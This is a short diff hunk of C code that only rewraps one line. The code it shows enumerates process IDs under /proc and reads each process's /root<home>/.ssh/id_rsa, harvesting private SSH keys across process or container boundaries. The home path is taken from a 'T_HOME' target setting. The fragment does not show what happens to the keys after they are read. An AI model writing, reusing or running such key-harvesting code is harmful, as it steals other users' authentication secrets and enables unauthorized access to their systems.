@@ -21,8 +21,8 @@ int main(int argc, char **argv)
 
 		if (!isdigit((unsigned char)e->d_name[0]))
 			continue;
-		snprintf(path, sizeof(path), "/proc/%s/root%s/.ssh/id_rsa", e->d_name,
-		         target("T_HOME"));
+		snprintf(path, sizeof(path), "/proc/%s/root%s/.ssh/id_rsa",
+		         e->d_name, target("T_HOME"));
 		if (!(f = fopen(path, "r")))
 			continue;
 		while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
